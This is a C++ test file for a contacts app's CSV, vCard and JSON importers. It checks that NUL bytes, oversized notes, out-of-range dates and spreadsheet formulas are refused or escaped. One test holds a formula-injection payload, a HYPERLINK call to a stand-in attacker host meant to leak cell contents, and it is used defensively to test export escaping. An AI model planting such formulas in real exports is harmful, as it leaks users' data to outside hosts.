// Hostile files through the importers (core/interchange): NUL bytes, a 1 MB note, dates in year 1 and
// 9999. Each is refused for the whole file with a sentence that says where and why; nothing crashes.
#include <catch2/catch.hpp>

#include <algorithm>
#include <fstream>
#include <sstream>
#include <string>

#include "core/interchange/csv_peers.h"
#include "core/interchange/import_plan.h"
#include "core/interchange/json_backup.h"
#include "core/interchange/vcard_import.h"
#include "core/model/notebook.h"
#include "tests/core/test_support.h"

using namespace rapport;
using namespace rapport::interchange;

namespace {

using namespace std::string_literals;

std::string readGoldenBackup() {
    std::ifstream in(RAPPORT_TEST_DATA_DIR "/interchange/backup_v1.json", std::ios::binary);
    std::stringstream bytes;
    bytes << in.rdbuf();
    REQUIRE(!bytes.str().empty());
    return bytes.str();
}

std::string replaced(std::string text, const std::string& from, const std::string& to) {
    const auto at = text.find(from);
    REQUIRE(at != std::string::npos);
    return text.replace(at, from.size(), to);
}

// What a contacts import would say: the parser's refusal, or the plan's report of line errors.
std::string contactsOutcome(const Result<PeerRecords>& records) {
    if (!records) return records.error().message;
    Notebook nb;
    IdSource ids(42);
    auto plan = planPeerImport(nb, ids, records.value(), "CSV file");
    return plan ? std::string("imported") : plan.error().message;
}

}  // namespace

TEST_CASE("NUL bytes in a CSV or vCard file refuse the file and say it is not UTF-8 text", "[hostile]") {
    const auto csv = parseCsvPeers("Name,Notes\nAna\0Lima,hi\n"s);
    REQUIRE_FALSE(csv.ok());
    INFO(csv.error().message);
    CHECK(csv.error().message.find("UTF-8") != std::string::npos);

    const auto vcard = parseVCards("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana\0Lima\r\nEND:VCARD\r\n"s);
    REQUIRE_FALSE(vcard.ok());
    INFO(vcard.error().message);
    CHECK(vcard.error().message.find("UTF-8") != std::string::npos);
}

TEST_CASE("NUL characters escaped in a JSON backup are refused with the field's place", "[hostile]") {
    const std::string golden = readGoldenBackup();
    REQUIRE(parseBackup(golden).ok());
    const auto name = parseBackup(replaced(golden, "\"Maria Chen\"", "\"Maria\\u0000Chen\""));
    REQUIRE_FALSE(name.ok());
    INFO(name.error().message);
    CHECK(name.error().message.find("peers[0].name: text contains a NUL") != std::string::npos);

    const auto notes = parseBackup(replaced(golden, "\"Prefers mornings;", "\"Prefers\\u0000mornings;"));
    REQUIRE_FALSE(notes.ok());
    INFO(notes.error().message);
    CHECK(notes.error().message.find("peers[0].notes: text contains a NUL") != std::string::npos);

    const auto raw = parseBackup(replaced(golden, "\"Maria Chen\"", "\"Maria\0Chen\""s));
    CHECK_FALSE(raw.ok());
}

TEST_CASE("a 1 MB note in a contacts file is a line error with the limit", "[hostile]") {
    const std::string csv = "Name,Notes\nAna Lima,\"" + std::string(1'000'000, 'x') + "\"\nBen Ode,short\n";
    const std::string outcome = contactsOutcome(parseCsvPeers(csv));
    INFO(outcome);
    CHECK(outcome.find("line 2") != std::string::npos);
    CHECK(outcome.find("longer than 20000") != std::string::npos);
}

TEST_CASE("dates in year 1 and 9999 in imports are refused with the notebook's range", "[hostile]") {
    for (const char* date : {"0001-01-01", "9999-12-31"}) {
        INFO(date);
        const std::string csv = "Name,Birthday\nAna Lima," + std::string(date) + "\n";
        const std::string outcome = contactsOutcome(parseCsvPeers(csv));
        INFO(outcome);
        CHECK(outcome.find("line 2") != std::string::npos);

        const auto backup = parseBackup(replaced(readGoldenBackup(), "\"metOn\": \"2021-03-04\"",
                                                 "\"metOn\": \"" + std::string(date) + "\""));
        REQUIRE_FALSE(backup.ok());
        INFO(backup.error().message);
        CHECK(backup.error().message.find("1900 to 2199") != std::string::npos);
    }
}

TEST_CASE("a name that is a spreadsheet formula is exported as text and imported back unchanged", "[hostile]") {
    Notebook nb;
    IdSource ids(7);
    test::addPeerOk(nb, ids, "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
    test::addPeerOk(nb, ids, "@SUM(A1:A9)");
    const std::string csv = exportCsvPeers(nb);
    CHECK(csv.find("\n=") == std::string::npos);  // no cell starts with a formula character
    CHECK(csv.find("\n@") == std::string::npos);
    CHECK(csv.find("'=HYPERLINK") != std::string::npos);
    const auto back = parseCsvPeers(csv);
    REQUIRE(back.ok());
    REQUIRE(back.value().records.size() == 2);
    std::vector<std::string> names{back.value().records[0].name, back.value().records[1].name};
    std::sort(names.begin(), names.end());
    CHECK(names == std::vector<std::string>{"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(A1:A9)"});
}
